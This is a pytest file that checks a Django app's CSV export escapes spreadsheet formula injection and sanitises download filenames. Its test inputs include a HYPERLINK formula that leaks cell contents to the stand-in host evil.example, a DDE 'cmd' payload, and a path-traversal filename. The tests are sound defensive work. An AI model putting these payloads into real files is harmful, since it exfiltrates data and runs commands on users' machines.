"""Every CSV download goes through core.csv, which writes text that a
spreadsheet would run as a formula as plain text instead (OWASP CSV injection)."""

import csv
import io
from decimal import Decimal

import pytest

from core.csv import csv_cell, csv_response, csv_writer
from tests.factories import CustomerFactory, PhoneNumberFactory
from tests.otp import login_with_otp

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def read(content: bytes | str) -> list[list[str]]:
    text = content.decode() if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "dangerous",
    [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "-", "@", "+"],
    ids=[
        "equals",
        "plus",
        "minus",
        "at",
        "tab",
        "carriage-return",
        "lone-equals",
        "lone-minus",
        "lone-at",
        "lone-plus",
    ],
)
def test_a_cell_starting_like_a_formula_is_written_as_text(dangerous):
    assert csv_cell(dangerous) == "'" + dangerous
    out = io.StringIO()
    csv_writer(out).writerow(["ok", dangerous])
    assert read(out.getvalue()) == [["ok", "'" + dangerous]]


@pytest.mark.parametrize("harmless", ["Ada Lovelace", "", " =not first", "a=b", "12-3", "'=already quoted"])
def test_other_text_is_written_as_it_is(harmless):
    assert csv_cell(harmless) == harmless


@pytest.mark.parametrize("value", [-5, 0, 3.5, -0.25, Decimal("-1.50"), None, True])
def test_numbers_and_other_non_text_values_are_written_unchanged(value):
    """A count of -5 stays the number -5: only strings can carry a formula."""
    assert csv_cell(value) is value
    out = io.StringIO()
    csv_writer(out).writerow([value])
    assert read(out.getvalue()) == [["" if value is None else str(value)]]


def test_the_response_is_a_named_csv_attachment_with_every_cell_neutralised():
    response = csv_response(filename='report "x"/../a.csv', header=["name", "count"], rows=[[FORMULA, -5]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="report x..a.csv"'
    assert read(response.content) == [["name", "count"], ["'" + FORMULA, "-5"]]


@pytest.mark.django_db
def test_a_customer_named_like_a_formula_is_text_in_the_timeline_csv(client, compliance_officer):
    """The finding: a customer named =HYPERLINK(...) became a live formula in the timeline CSV."""
    customer = CustomerFactory(first_name=FORMULA, last_name="")
    PhoneNumberFactory(customer=customer, number="+12127360901")
    login_with_otp(client, compliance_officer)
    answer = client.get("/compliance/timeline/", {"number": "+12127360901", "export": "csv"})
    assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
    rows = read(answer.content)
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
